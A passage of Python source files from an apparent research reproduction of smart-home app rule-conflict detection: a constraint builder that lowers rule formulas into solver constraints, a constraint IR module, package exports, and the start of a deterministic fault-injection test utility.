            raise unknown("max entries must be >= 1")
        return InProcessLRUCache(max_entries)
    if name.lower() == "sqlite":
        if not arg:
            raise unknown("sqlite spec needs a path: 'sqlite:<path>'")
        return SQLiteSolveCache(arg)
    raise unknown(f"unknown backend name {name!r}")
