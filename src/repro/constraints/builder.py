"""Lowering rule formulas into solver constraints (paper §VI-A2).

Two rules overlap when the conjunction of both rules' trigger and
condition constraints — over a *shared* home context — is satisfiable.
The builder owns that sharing: device attributes resolve to common
variables when two apps are bound to the same device (by 128-bit device
id in deployment, by device type in repository analysis, paper §VIII-B),
``location.mode`` and the wall clock are shared per *environment*
(home) — one global variable in the paper's single-home default, one
variable per home in multi-home fleet analysis — and user inputs are
per-app variables optionally pinned by collected configuration.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Protocol

from repro.capabilities.registry import capability
from repro.constraints.solver import VarPool
from repro.constraints.terms import (
    AffineTerm,
    BoolFormula,
    CmpAtom,
    FALSE,
    FreeAtom,
    StrTerm,
    TRUE,
    conj,
    disj,
    lit,
    neg,
)
from repro.rules.model import Rule
from repro.symex.values import (
    BinExpr,
    CallExpr,
    Concat,
    Const,
    DeviceAttr,
    DeviceRef,
    EventAttr,
    EventValue,
    ListVal,
    LocalVar,
    LocationAttr,
    NotExpr,
    StateVal,
    SymExpr,
    TimeVal,
    UserInput,
)

_STANDARD_MODES = {"Home", "Away", "Night"}

# (capability, attribute, bound type) -> attribute spec; the registry
# is static module data, so this is safe to share process-wide.
_ATTRIBUTE_SPEC_MEMO: dict[tuple[str, str, str | None], object] = {}


def environment_of(resolver: "DeviceResolver", app_name: str) -> str:
    """The environment (home) an app runs in.

    Environment channels, the location mode and the wall clock are
    physically shared only within one home.  Resolvers may scope apps
    into disjoint environments by exposing ``environment(app_name) ->
    str`` (e.g. a multi-home store audit); the default is a single
    shared home, which reproduces the paper's single-deployment
    semantics exactly.
    """
    environment = getattr(resolver, "environment", None)
    if environment is None:
        return ""
    return environment(app_name)


def scoped_key(environment: str, key: str) -> str:
    """Prefix a home-global solver variable with its environment.

    Solver variables such as ``location:mode`` and ``time:now`` model
    per-home physical state; scoping them keeps two different homes'
    modes/clocks independent in merged cross-home formulas (they still
    collapse to one shared variable within a home, and to the bare key
    in the paper's single-home default)."""
    return f"{environment}|{key}" if environment else key


class DeviceResolver(Protocol):
    """Resolves device identity and configuration values for an app.

    Resolvers may additionally expose ``environment(app_name) -> str``
    to scope apps into disjoint homes: environment channels and the
    location mode couple rules only within one environment (see
    DESIGN.md §2).  Without it, every app shares a single home — the
    paper's deployment semantics.
    """

    def identity(self, app_name: str, ref: DeviceRef) -> tuple[str, str | None]:
        """Return ``(identity_key, device_type_name_or_None)``."""

    def input_value(self, app_name: str, input_name: str) -> object | None:
        """The user-configured value for an input, if known."""


@dataclass(slots=True)
class TypeBasedResolver:
    """Repository-analysis resolver: two rules use "the same device"
    when they use devices of the same type (paper §VIII-B).

    ``type_hints`` refines ``capability.switch`` inputs into concrete
    device types according to the app description — the paper does the
    same to avoid excessive false positives.
    """

    type_hints: dict[str, dict[str, str]] = field(default_factory=dict)
    values: dict[str, dict[str, object]] = field(default_factory=dict)

    def identity(self, app_name: str, ref: DeviceRef) -> tuple[str, str | None]:
        hint = self.type_hints.get(app_name, {}).get(ref.name)
        if hint is not None:
            return f"type:{hint}", hint
        cap_name = ref.capability.split(".", 1)[-1]
        return f"type:cap:{cap_name}", None

    def input_value(self, app_name: str, input_name: str) -> object | None:
        return self.values.get(app_name, {}).get(input_name)


class ConstraintBuilder:
    """Translates rule formulas into solver constraints over a shared
    :class:`VarPool`.

    With a :class:`FormulaInterner` attached, per-rule situation and
    condition lowerings are memoized across builders (DESIGN.md §10):
    a rule paired with k candidates lowers once, and the k-1 reuses
    replay the cached declarations into this builder's pool.  Reuse is
    exact — see the interner's context-sensitivity check."""

    def __init__(
        self,
        resolver: DeviceResolver,
        pool: VarPool | None = None,
        interner: "FormulaInterner | None" = None,
    ) -> None:
        self._resolver = resolver
        self.pool = pool if pool is not None else VarPool()
        self._interner = interner
        # Lazily inferred kinds for variables whose sort is not known
        # statically (locals, state slots): "num" | "str".
        self._kinds: dict[str, str] = {}
        # Every kind key this builder consulted (hit *or* miss): the
        # footprint that decides whether a cached lowering may be
        # replayed into a different builder's context.
        self._kind_probes: set[str] = set()

    # ------------------------------------------------------------------
    # Public lowering entry points

    def situation(self, rule: Rule) -> BoolFormula:
        """Trigger constraint + condition of one rule, with the event
        value bound to the subscribed attribute."""
        if self._interner is not None:
            return self._interner.lowering(self, rule, "situation")
        return self._lower_rule(rule, "situation")

    def condition(self, rule: Rule) -> BoolFormula:
        """Condition-only formula (used by EC/DC detection)."""
        if self._interner is not None:
            return self._interner.lowering(self, rule, "condition")
        return self._lower_rule(rule, "condition")

    def _lower_rule(self, rule: Rule, kind: str) -> BoolFormula:
        """Uncached lowering of one rule in this builder's context."""
        if kind == "situation":
            return self._situation_uncached(rule)
        return self._condition_uncached(rule)

    def _situation_uncached(self, rule: Rule) -> BoolFormula:
        event_binding = self._event_binding(rule)
        parts: list[BoolFormula] = []
        if rule.trigger.constraint is not None:
            parts.append(
                self.lower(
                    rule.app_name,
                    rule.trigger.constraint,
                    event_binding,
                    rule_key=rule.rule_id,
                )
            )
        parts.append(self.condition(rule))
        return conj(parts)

    def _condition_uncached(self, rule: Rule) -> BoolFormula:
        event_binding = self._event_binding(rule)
        parts: list[BoolFormula] = []
        for constraint in rule.condition.data_constraints:
            formula = self._data_equality(rule, constraint, event_binding)
            if formula is not None:
                parts.append(formula)
        for predicate in rule.condition.predicate_constraints:
            parts.append(
                self.lower(
                    rule.app_name, predicate, event_binding, rule_key=rule.rule_id
                )
            )
        parts.extend(self._input_pins(rule))
        return conj(parts)

    def attr_equals(
        self, app_name: str, ref: DeviceRef, attribute: str, value: object
    ) -> BoolFormula:
        """``device.attribute == value`` effect constraint (paper §VI-C)."""
        term = self._device_attr_term(app_name, DeviceAttr(ref, attribute))
        if isinstance(term, StrTerm):
            return lit(CmpAtom(term, "==", StrTerm(None, str(value))))
        if isinstance(value, (int, float)):
            return lit(CmpAtom(term, "==", AffineTerm.const(float(value))))
        try:
            return lit(CmpAtom(term, "==", AffineTerm.const(float(value))))
        except (TypeError, ValueError):
            return TRUE

    def attr_compare(
        self, app_name: str, ref: DeviceRef, attribute: str, op: str, value: float
    ) -> BoolFormula:
        """``device.attribute <op> value`` (e.g. a setpoint effect:
        ``tSensor.temperature >= T``)."""
        term = self._device_attr_term(app_name, DeviceAttr(ref, attribute))
        if isinstance(term, StrTerm):
            return TRUE
        return lit(CmpAtom(term, op, AffineTerm.const(float(value))))

    # ------------------------------------------------------------------
    # Formula lowering

    def lower(
        self,
        app_name: str,
        expr: SymExpr,
        event_binding: SymExpr | None = None,
        rule_key: str = "",
    ) -> BoolFormula:
        expr = self._substitute_event(expr, event_binding)
        return self._lower_bool(app_name, expr, rule_key)

    def _lower_bool(self, app_name: str, expr: SymExpr, rule_key: str) -> BoolFormula:
        if isinstance(expr, Const):
            return TRUE if bool(expr.value) else FALSE
        if isinstance(expr, BinExpr):
            if expr.op == "&&":
                return conj([
                    self._lower_bool(app_name, expr.left, rule_key),
                    self._lower_bool(app_name, expr.right, rule_key),
                ])
            if expr.op == "||":
                return disj([
                    self._lower_bool(app_name, expr.left, rule_key),
                    self._lower_bool(app_name, expr.right, rule_key),
                ])
            if expr.op == "in":
                return self._lower_membership(app_name, expr, rule_key)
            if expr.op in ("==", "!=", "<", "<=", ">", ">="):
                return self._lower_comparison(app_name, expr, rule_key)
        if isinstance(expr, NotExpr):
            return neg(self._lower_bool(app_name, expr.operand, rule_key))
        return self._opaque(app_name, expr)

    def _lower_membership(
        self, app_name: str, expr: BinExpr, rule_key: str
    ) -> BoolFormula:
        if isinstance(expr.right, ListVal):
            options = []
            for item in expr.right.items:
                options.append(
                    self._lower_comparison(
                        app_name, BinExpr("==", expr.left, item), rule_key
                    )
                )
            return disj(options)
        if isinstance(expr.right, Const) and isinstance(expr.right.value, (list, tuple)):
            options = []
            for item in expr.right.value:
                value = item if isinstance(item, SymExpr) else Const(item)
                options.append(
                    self._lower_comparison(
                        app_name, BinExpr("==", expr.left, value), rule_key
                    )
                )
            return disj(options)
        return self._opaque(app_name, expr)

    def _lower_comparison(
        self, app_name: str, expr: BinExpr, rule_key: str
    ) -> BoolFormula:
        # Determine the comparison's sort from whichever side has a
        # definite one before committing an inferred variable's kind
        # (e.g. `evt.value < 65` must make the event variable numeric).
        hint = (
            self._static_sort(app_name, expr.left)
            or self._static_sort(app_name, expr.right)
        )
        left = self._lower_term(app_name, expr.left, rule_key, hint=hint)
        hint = hint or self._sort_of(left)
        right = self._lower_term(app_name, expr.right, rule_key, hint=hint)
        if left is None or right is None:
            return self._opaque(app_name, expr)
        # Harmonize sorts: numeric-looking string constants coerce.
        if isinstance(left, AffineTerm) and isinstance(right, StrTerm):
            right = self._coerce_to_num(right)
            if right is None:
                return self._opaque(app_name, expr)
        elif isinstance(left, StrTerm) and isinstance(right, AffineTerm):
            left_num = self._coerce_to_num(left)
            if left_num is None:
                if right.is_const:
                    right = StrTerm(None, f"{right.add:g}")
                    return lit(CmpAtom(left, expr.op, right))
                return self._opaque(app_name, expr)
            left = left_num
        if isinstance(left, StrTerm) and expr.op not in ("==", "!="):
            return self._opaque(app_name, expr)
        return lit(CmpAtom(left, expr.op, right))

    def _static_sort(self, app_name: str, expr: SymExpr) -> str | None:
        """The sort an expression definitely has, without lowering it."""
        if isinstance(expr, Const):
            if isinstance(expr.value, bool):
                return "str"
            if isinstance(expr.value, (int, float)):
                return "num"
            return "str"
        if isinstance(expr, DeviceAttr):
            identity, type_name = self._resolver.identity(app_name, expr.device)
            spec = self._attribute_spec(expr.device, expr.attribute, type_name)
            if spec is not None:
                return "num" if spec.kind == "number" else "str"
            return None
        if isinstance(expr, UserInput):
            if expr.input_type in ("number", "decimal", "time"):
                return "num"
            return "str"
        if isinstance(expr, TimeVal):
            return "num"
        if isinstance(expr, LocationAttr):
            return "str"
        if isinstance(expr, BinExpr) and expr.op in ("+", "-", "*", "/"):
            return "num"
        if isinstance(expr, LocalVar):
            key = f"local:{app_name}"
            self._kind_probes.add(key)
            return self._kinds.get(key)
        return None

    @staticmethod
    def _sort_of(term) -> str | None:
        if isinstance(term, AffineTerm):
            return "num"
        if isinstance(term, StrTerm):
            return "str"
        return None

    @staticmethod
    def _coerce_to_num(term: StrTerm) -> AffineTerm | None:
        if term.var is not None or term.value is None:
            return None
        try:
            return AffineTerm.const(float(term.value))
        except ValueError:
            return None

    # ------------------------------------------------------------------
    # Term lowering

    def _lower_term(
        self,
        app_name: str,
        expr: SymExpr,
        rule_key: str,
        hint: str | None,
    ):
        if isinstance(expr, Const):
            value = expr.value
            if isinstance(value, bool):
                return StrTerm(None, "true" if value else "false")
            if isinstance(value, (int, float)):
                return AffineTerm.const(float(value))
            if value is None:
                return StrTerm(None, "null")
            return StrTerm(None, str(value))
        if isinstance(expr, DeviceAttr):
            return self._device_attr_term(app_name, expr)
        if isinstance(expr, UserInput):
            return self._user_input_term(app_name, expr)
        if isinstance(expr, LocalVar):
            return self._inferred_var(f"local:{app_name}:{rule_key}:{expr.key}", hint)
        if isinstance(expr, StateVal):
            return self._inferred_var(f"state:{app_name}:{expr.name}", hint)
        if isinstance(expr, LocationAttr):
            # Location state is per home: scope the variable by the
            # app's environment so cross-home pairs never share a mode.
            env = environment_of(self._resolver, app_name)
            if expr.attribute == "mode":
                key = self.pool.declare_str(
                    scoped_key(env, "location:mode"), None
                )
                return StrTerm(key)
            return self._inferred_var(
                scoped_key(env, f"location:{expr.attribute}"), hint
            )
        if isinstance(expr, TimeVal):
            env = environment_of(self._resolver, app_name)
            key = self.pool.declare_num(
                scoped_key(env, "time:now"), 0.0, 86400.0
            )
            return AffineTerm(key)
        if isinstance(expr, BinExpr) and expr.op in ("+", "-", "*", "/"):
            return self._lower_arith(app_name, expr, rule_key, hint)
        if isinstance(expr, (EventValue, EventAttr, CallExpr, Concat, ListVal,
                             DeviceRef)):
            return None
        return None

    def _lower_arith(
        self, app_name: str, expr: BinExpr, rule_key: str, hint: str | None
    ):
        left = self._lower_term(app_name, expr.left, rule_key, "num")
        right = self._lower_term(app_name, expr.right, rule_key, "num")
        if not isinstance(left, AffineTerm) or not isinstance(right, AffineTerm):
            return None
        if expr.op == "+":
            if left.is_const:
                return right.shifted(left.add)
            if right.is_const:
                return left.shifted(right.add)
            return None  # two-variable sums exceed the affine fragment
        if expr.op == "-":
            if right.is_const:
                return left.shifted(-right.add)
            if left.is_const and not right.is_const:
                return right.scaled(-1.0).shifted(left.add)
            return None
        if expr.op == "*":
            if left.is_const:
                return right.scaled(left.add)
            if right.is_const:
                return left.scaled(right.add)
            return None
        if expr.op == "/":
            if right.is_const and right.add != 0:
                return left.scaled(1.0 / right.add)
            return None
        return None

    def _device_attr_term(self, app_name: str, expr: DeviceAttr):
        identity, type_name = self._resolver.identity(app_name, expr.device)
        key = f"{identity}.{expr.attribute}"
        spec = self._attribute_spec(expr.device, expr.attribute, type_name)
        if spec is not None and spec.kind == "number":
            self.pool.declare_num(key, float(spec.low), float(spec.high))
            return AffineTerm(key)
        if spec is not None and spec.kind == "enum":
            self.pool.declare_str(key, set(spec.values))
            return StrTerm(key)
        self._kind_probes.add(key)
        kind = self._kinds.get(key)
        if kind == "num":
            self.pool.declare_num(key, -1e6, 1e6)
            return AffineTerm(key)
        self.pool.declare_str(key, None)
        return StrTerm(key)

    @staticmethod
    def _attribute_spec(ref: DeviceRef, attribute: str, type_name: str | None):
        # The registries are static module data, so the resolution is
        # memoized process-wide — the fallback scan over every
        # capability used to run once per lowered attribute.
        memo_key = (ref.capability, attribute, type_name)
        try:
            return _ATTRIBUTE_SPEC_MEMO[memo_key]
        except KeyError:
            pass
        try:
            cap = capability(ref.capability)
        except KeyError:
            cap = None
        spec = None
        resolved = False
        if cap is not None and attribute in cap.attributes:
            spec = cap.attributes[attribute]
            resolved = True
        if not resolved and type_name is not None:
            # The attribute may come from a sibling capability of the
            # bound device type (e.g. `level` on a `capability.switch`
            # input).  A known device type is authoritative: when it
            # lacks the attribute too, the result is None — never a
            # spec scavenged from an unrelated capability.
            from repro.capabilities.devices import DEVICE_TYPES

            dtype = DEVICE_TYPES.get(type_name)
            if dtype is not None:
                spec = dtype.attributes().get(attribute)
                resolved = True
        if not resolved:
            from repro.capabilities.registry import CAPABILITIES

            for other in CAPABILITIES.values():
                if attribute in other.attributes:
                    spec = other.attributes[attribute]
                    break
        _ATTRIBUTE_SPEC_MEMO[memo_key] = spec
        return spec

    def _user_input_term(self, app_name: str, expr: UserInput):
        key = f"input:{app_name}:{expr.name}"
        if expr.input_type in ("number", "decimal"):
            self.pool.declare_num(key, -1e6, 1e6)
            return AffineTerm(key)
        if expr.input_type == "time":
            self.pool.declare_num(key, 0.0, 86400.0)
            return AffineTerm(key)
        if expr.input_type in ("bool", "boolean"):
            self.pool.declare_str(key, {"true", "false"})
            return StrTerm(key)
        self.pool.declare_str(key, None)
        return StrTerm(key)

    def _inferred_var(self, key: str, hint: str | None):
        self._kind_probes.add(key)
        kind = self._kinds.get(key)
        if kind is None:
            kind = hint or "str"
            self._kinds[key] = kind
        if kind == "num":
            self.pool.declare_num(key, -1e9, 1e9)
            return AffineTerm(key)
        self.pool.declare_str(key, None)
        return StrTerm(key)

    def _opaque(self, app_name: str, expr: SymExpr) -> BoolFormula:
        return lit(FreeAtom(f"{app_name}:{expr}"))

    # ------------------------------------------------------------------
    # Rule plumbing

    def _event_binding(self, rule: Rule) -> SymExpr | None:
        """Bind ``evt.value`` to a *per-rule* event variable.

        Trigger events are momentary: two rules with disjoint trigger
        values on the same device (``contact.open`` vs ``contact.closed``)
        can still fire in close succession, which is exactly how
        LetThereBeDark races UndeadEarlyWarning in the paper's findings.
        Only *condition* constraints range over the shared home state;
        each rule's event gets its own variable so disjoint trigger
        values never make the merged situation spuriously UNSAT.
        """
        trigger = rule.trigger
        if trigger.device is not None or trigger.subject == "location":
            return LocalVar("@event")
        return None

    def _substitute_event(
        self, expr: SymExpr, binding: SymExpr | None
    ) -> SymExpr:
        if binding is None:
            return expr
        if isinstance(expr, EventValue):
            return binding
        if isinstance(expr, BinExpr):
            return BinExpr(
                expr.op,
                self._substitute_event(expr.left, binding),
                self._substitute_event(expr.right, binding),
            )
        if isinstance(expr, NotExpr):
            return NotExpr(self._substitute_event(expr.operand, binding))
        return expr

    def _data_equality(self, rule: Rule, constraint, event_binding) -> BoolFormula | None:
        if isinstance(constraint.value, Const) and isinstance(
            constraint.value.value, str
        ) and constraint.value.value.startswith("#"):
            return None  # symbolic-input marker, not an equation
        rule_key = rule.rule_id
        value_term = self._lower_term(
            rule.app_name,
            self._substitute_event(constraint.value, event_binding),
            rule_key,
            hint=None,
        )
        if value_term is None:
            return None
        hint = self._sort_of(value_term)
        var_term = self._inferred_var(
            f"local:{rule.app_name}:{rule_key}:{constraint.name}", hint
        )
        if isinstance(var_term, AffineTerm) != isinstance(value_term, AffineTerm):
            return None
        return lit(CmpAtom(var_term, "==", value_term))

    def _apply_cached(self, entry: "_CachedLowering") -> BoolFormula:
        """Replay a cached lowering's side effects into this builder."""
        pool = self.pool
        for key, low, high in entry.num_declares:
            pool.declare_num(key, low, high)
        for key, candidates in entry.str_declares:
            pool.declare_str(
                key, None if candidates is None else set(candidates)
            )
        self._kinds.update(entry.kind_sets)
        self._kind_probes.update(entry.kind_probes)
        return entry.formula

    def _input_pins(self, rule: Rule) -> list[BoolFormula]:
        """Equalities pinning user inputs to collected configuration."""
        pins: list[BoolFormula] = []
        seen: set[str] = set()
        exprs: list[SymExpr] = []
        if rule.trigger.constraint is not None:
            exprs.append(rule.trigger.constraint)
        exprs.extend(rule.condition.predicate_constraints)
        exprs.extend(c.value for c in rule.condition.data_constraints)
        for expr in exprs:
            for node in expr.walk():
                if not isinstance(node, UserInput) or node.name in seen:
                    continue
                seen.add(node.name)
                value = self._resolver.input_value(rule.app_name, node.name)
                if value is None:
                    continue
                term = self._user_input_term(rule.app_name, node)
                if isinstance(term, AffineTerm):
                    try:
                        pins.append(
                            lit(CmpAtom(term, "==", AffineTerm.const(float(value))))
                        )
                    except (TypeError, ValueError):
                        continue
                else:
                    pins.append(
                        lit(CmpAtom(term, "==", StrTerm(None, str(value))))
                    )
        return pins


# ----------------------------------------------------------------------
# Formula interning (DESIGN.md §10)


@dataclass(frozen=True, slots=True)
class _CachedLowering:
    """One rule's situation or condition lowering, captured from a
    clean builder: the formula plus every side effect producing it."""

    formula: BoolFormula
    num_declares: tuple[tuple[str, float, float], ...]
    str_declares: tuple[tuple[str, frozenset | None], ...]
    kind_probes: frozenset[str]
    kind_sets: tuple[tuple[str, str], ...]


class FormulaInterner:
    """Memoizes per-rule lowerings across :class:`ConstraintBuilder`\\ s.

    Detection builds one constraint instance per candidate pair, and a
    rule with k candidate partners used to re-lower k times — the same
    walk over the same expression tree, the same spec lookups, the same
    variable declarations, once per (environment, channel, attribute)
    it mentions.  The interner lowers each rule's situation/condition
    once in a scratch builder and replays the captured declarations
    into later pair builders.

    Exactness: formulas over pool variables are pure values keyed by
    variable *names*, so a replay is byte-identical to re-lowering —
    except when lazy kind inference couples the pair's two rules (rule
    A infers ``location:sunset`` numeric, rule B's lowering would then
    see it).  Every lowering therefore records its kind *probe* set
    (every key whose inferred kind it consulted, hit or miss); a cached
    entry is replayed only into builders whose inferred-kind state is
    disjoint from that footprint, and lowers in context otherwise.
    Probed-but-unset keys resolve identically under disjointness, so
    the replayed formula equals the in-context lowering exactly
    (asserted over every corpus pair in
    ``tests/test_constraints_builder.py``).

    The memo assumes stable resolver bindings, exactly like the
    signature memo: callers that reconfigure an app must
    :meth:`invalidate_app` (the detection engine wires this up).
    """

    __slots__ = ("_memo",)

    def __init__(self) -> None:
        self._memo: dict[tuple[str, str], _CachedLowering] = {}

    def __len__(self) -> int:
        return len(self._memo)

    def invalidate_app(self, app_name: str) -> None:
        prefix = f"{app_name}/"
        for key in [k for k in self._memo if k[0].startswith(prefix)]:
            del self._memo[key]

    def lowering(
        self, builder: ConstraintBuilder, rule: Rule, kind: str
    ) -> BoolFormula:
        entry = self._memo.get((rule.rule_id, kind))
        if entry is None:
            scratch = ConstraintBuilder(builder._resolver, interner=self)
            formula = scratch._lower_rule(rule, kind)
            entry = _CachedLowering(
                formula=formula,
                num_declares=tuple(
                    (key, low, high)
                    for key, (low, high) in scratch.pool.num_bounds.items()
                ),
                str_declares=tuple(
                    (key, None if cands is None else frozenset(cands))
                    for key, cands in scratch.pool.str_candidates.items()
                ),
                kind_probes=frozenset(scratch._kind_probes),
                kind_sets=tuple(scratch._kinds.items()),
            )
            self._memo[(rule.rule_id, kind)] = entry
        if builder._kinds and not entry.kind_probes.isdisjoint(builder._kinds):
            # Context-sensitive: the pair's earlier lowering inferred a
            # kind this rule consults, so a replay could diverge from
            # the historical in-context result.  Lower directly (rare).
            return builder._lower_rule(rule, kind)
        return builder._apply_cached(entry)
