"""Finite-domain constraint solving (paper §VI, overlapping-condition
detection).

The paper transforms overlap detection into a constraint satisfaction
problem and feeds it to JaCoP; this package provides a from-scratch
equivalent: typed variables (numeric intervals / string enumerations /
free booleans), three-valued formula evaluation, bound/domain
propagation and branching search, plus a builder that translates rule
formulas (symbolic expressions) into solver constraints with shared
home-context variables.
"""

from repro.constraints.terms import (
    Atom,
    BoolFormula,
    CmpAtom,
    FALSE,
    Formula,
    FreeAtom,
    TRUE,
    conj,
    disj,
    neg,
)
from repro.constraints.solver import Result, Solver, VarPool
from repro.constraints.builder import (
    ConstraintBuilder,
    DeviceResolver,
    FormulaInterner,
    TypeBasedResolver,
)
from repro.constraints.dispatch import (
    AutoDispatcher,
    PlanResult,
    PlanTask,
    ProcessPoolDispatcher,
    SerialDispatcher,
    SolveBatch,
    SolveTask,
    SolverDispatcher,
    ThreadPoolDispatcher,
    make_dispatcher,
)

__all__ = [
    "Atom",
    "AutoDispatcher",
    "BoolFormula",
    "CmpAtom",
    "ConstraintBuilder",
    "DeviceResolver",
    "FALSE",
    "Formula",
    "FormulaInterner",
    "FreeAtom",
    "PlanResult",
    "PlanTask",
    "ProcessPoolDispatcher",
    "Result",
    "SerialDispatcher",
    "SolveBatch",
    "SolveTask",
    "Solver",
    "SolverDispatcher",
    "TRUE",
    "ThreadPoolDispatcher",
    "TypeBasedResolver",
    "VarPool",
    "conj",
    "disj",
    "make_dispatcher",
    "neg",
]
