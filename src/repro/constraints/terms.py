"""Constraint IR: terms, atoms and boolean formulas.

The builder lowers rule predicates into this IR; the solver decides it.
Atoms are either comparisons over affine terms / string literals, or
free (uninterpreted) booleans for opaque platform predicates such as
``timeOfDayIsBetween(...)``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Union

_FLIP = {"==": "!=", "!=": "==", "<": ">=", "<=": ">", ">": "<=", ">=": "<"}


@dataclass(frozen=True, slots=True)
class AffineTerm:
    """``mul * var + add`` over a numeric variable (var may be None for a
    pure constant)."""

    var: str | None
    mul: float = 1.0
    add: float = 0.0

    @staticmethod
    def const(value: float) -> "AffineTerm":
        return AffineTerm(var=None, mul=0.0, add=float(value))

    @property
    def is_const(self) -> bool:
        return self.var is None

    def scaled(self, factor: float) -> "AffineTerm":
        return AffineTerm(self.var, self.mul * factor, self.add * factor)

    def shifted(self, delta: float) -> "AffineTerm":
        return AffineTerm(self.var, self.mul, self.add + delta)

    def __str__(self) -> str:
        if self.var is None:
            return f"{self.add:g}"
        prefix = "" if self.mul == 1 else f"{self.mul:g}*"
        suffix = "" if self.add == 0 else f"+{self.add:g}"
        return f"{prefix}{self.var}{suffix}"


@dataclass(frozen=True, slots=True)
class StrTerm:
    """Either a string literal or an enum variable reference."""

    var: str | None
    value: str | None = None

    @property
    def is_const(self) -> bool:
        return self.var is None

    def __str__(self) -> str:
        return self.var if self.var is not None else repr(self.value)


Term = Union[AffineTerm, StrTerm]


@dataclass(frozen=True, slots=True)
class CmpAtom:
    """A comparison atom over two terms of the same sort."""

    left: Term
    op: str
    right: Term

    def negated(self) -> "CmpAtom":
        return CmpAtom(self.left, _FLIP[self.op], self.right)

    def __str__(self) -> str:
        return f"{self.left} {self.op} {self.right}"


@dataclass(frozen=True, slots=True)
class FreeAtom:
    """An uninterpreted boolean (opaque predicate)."""

    key: str

    def __str__(self) -> str:
        return f"?{self.key}"


Atom = Union[CmpAtom, FreeAtom]


@dataclass(frozen=True, slots=True)
class BoolFormula:
    """NNF boolean formula: a literal over an atom, or AND/OR node.

    ``kind`` is one of ``"lit"``, ``"and"``, ``"or"``, ``"const"``.
    """

    kind: str
    atom: Atom | None = None
    positive: bool = True
    children: tuple["BoolFormula", ...] = ()
    value: bool = True

    def __str__(self) -> str:
        if self.kind == "const":
            return "true" if self.value else "false"
        if self.kind == "lit":
            text = str(self.atom)
            return text if self.positive else f"!({text})"
        joiner = " && " if self.kind == "and" else " || "
        return "(" + joiner.join(str(child) for child in self.children) + ")"

    def atoms(self) -> list[Atom]:
        found: list[Atom] = []
        stack = [self]
        while stack:
            node = stack.pop()
            if node.kind == "lit" and node.atom is not None:
                found.append(node.atom)
            stack.extend(node.children)
        return found


Formula = BoolFormula

TRUE = BoolFormula(kind="const", value=True)
FALSE = BoolFormula(kind="const", value=False)


def lit(atom: Atom, positive: bool = True) -> BoolFormula:
    return BoolFormula(kind="lit", atom=atom, positive=positive)


def conj(parts: list[BoolFormula]) -> BoolFormula:
    flattened: list[BoolFormula] = []
    for part in parts:
        if part.kind == "const":
            if not part.value:
                return FALSE
            continue
        if part.kind == "and":
            flattened.extend(part.children)
        else:
            flattened.append(part)
    if not flattened:
        return TRUE
    if len(flattened) == 1:
        return flattened[0]
    return BoolFormula(kind="and", children=tuple(flattened))


def disj(parts: list[BoolFormula]) -> BoolFormula:
    flattened: list[BoolFormula] = []
    for part in parts:
        if part.kind == "const":
            if part.value:
                return TRUE
            continue
        if part.kind == "or":
            flattened.extend(part.children)
        else:
            flattened.append(part)
    if not flattened:
        return FALSE
    if len(flattened) == 1:
        return flattened[0]
    return BoolFormula(kind="or", children=tuple(flattened))


def neg(formula: BoolFormula) -> BoolFormula:
    """Negation with NNF push-down."""
    if formula.kind == "const":
        return FALSE if formula.value else TRUE
    if formula.kind == "lit":
        if isinstance(formula.atom, CmpAtom):
            return lit(formula.atom.negated(), positive=True)
        return BoolFormula(
            kind="lit", atom=formula.atom, positive=not formula.positive
        )
    if formula.kind == "and":
        return disj([neg(child) for child in formula.children])
    return conj([neg(child) for child in formula.children])
