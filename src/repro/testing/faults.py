"""Deterministic, process-safe fault injection.

The production code carries named *injection points* — plain
``fault_hook("dispatch.chunk", ...)`` calls that are a single global
read when no plan is installed.  A test (or benchmark) builds a
:class:`FaultPlan` from :class:`FaultSpec` triggers, installs it, and
the hooks start firing faults deterministically:

* ``nth`` — trigger on specific 1-based call indices of that point;
* ``every`` — trigger on every Nth call;
* ``probability`` — trigger on a deterministic hash of
  ``(seed, point, call index)``, so the same seed always yields the
  same fault pattern for the same call sequence.

Call counters are ``multiprocessing.Value`` slots: on fork-based
platforms (Linux, the only platform this repo targets) pool workers
created *after* the plan is installed inherit both the plan and the
shared counters, so one plan spans serial, thread-pool and
process-pool dispatch.  Fault events are appended as JSON lines to an
optional log file (append-mode writes, safe across processes).

Fault kinds
-----------
``error``
    Raise :class:`InjectedFault` (a worker-side crash on any backend).
``kill``
    ``os._exit`` the current process — only meaningful inside a pool
    worker process, where it produces a real ``BrokenProcessPool``.
``hang``
    Sleep ``delay`` seconds, then continue — simulates a wedged solve
    for the per-chunk ``solve_timeout`` deadline.
``io-error``
    Raise ``sqlite3.OperationalError`` — the transient backend failure
    the circuit breakers are wired for.
``disconnect``
    Raise ``ConnectionResetError`` — a dropped transport peer.

Coordinator-side *recovery* paths run under :func:`shielded`, which
suppresses matching points: the inline re-execution of a lost chunk
models the coordinator's own process, which worker-boundary faults
cannot reach.  Without this, an ``every=1`` plan could never make
progress.
"""

from __future__ import annotations

import hashlib
import json
import multiprocessing
import os
import sqlite3
import threading
import time
from contextlib import contextmanager
from dataclasses import dataclass, field

__all__ = [
    "FaultPlan",
    "FaultSpec",
    "InjectedFault",
    "fault_hook",
    "install_plan",
    "clear_plan",
    "shielded",
    "tagged",
]

#: Injection points compiled into the production code.  Kept here as
#: documentation and so plans can validate their spec points.
KNOWN_POINTS = frozenset(
    {
        "dispatch.chunk",
        "cache.get",
        "cache.put",
        "store.append",
        "transport.write",
    }
)


class InjectedFault(RuntimeError):
    """Raised by ``error``-kind fault specs."""


@dataclass(frozen=True)
class FaultSpec:
    """One trigger rule for one injection point."""

    point: str
    kind: str = "error"
    nth: tuple[int, ...] = ()
    every: int = 0
    probability: float = 0.0
    delay: float = 0.25
    exit_code: int = 1

    def __post_init__(self) -> None:
        if self.kind not in ("error", "kill", "hang", "io-error", "disconnect"):
            raise ValueError(f"unknown fault kind: {self.kind!r}")
        if self.point not in KNOWN_POINTS:
            raise ValueError(
                f"unknown injection point {self.point!r}; known: {sorted(KNOWN_POINTS)}"
            )
        if not 0.0 <= self.probability <= 1.0:
            raise ValueError("probability must be in [0, 1]")
        if self.every < 0 or self.delay < 0:
            raise ValueError("every and delay must be >= 0")

    def triggers(self, index: int, seed: int) -> bool:
        """Deterministically decide whether call ``index`` (1-based) fires."""
        if index in self.nth:
            return True
        if self.every and index % self.every == 0:
            return True
        if self.probability:
            digest = hashlib.sha256(f"{seed}:{self.point}:{index}".encode()).digest()
            if int.from_bytes(digest[:8], "big") / 2**64 < self.probability:
                return True
        return False


# Thread-local shielding + tagging.  Worker processes start with fresh
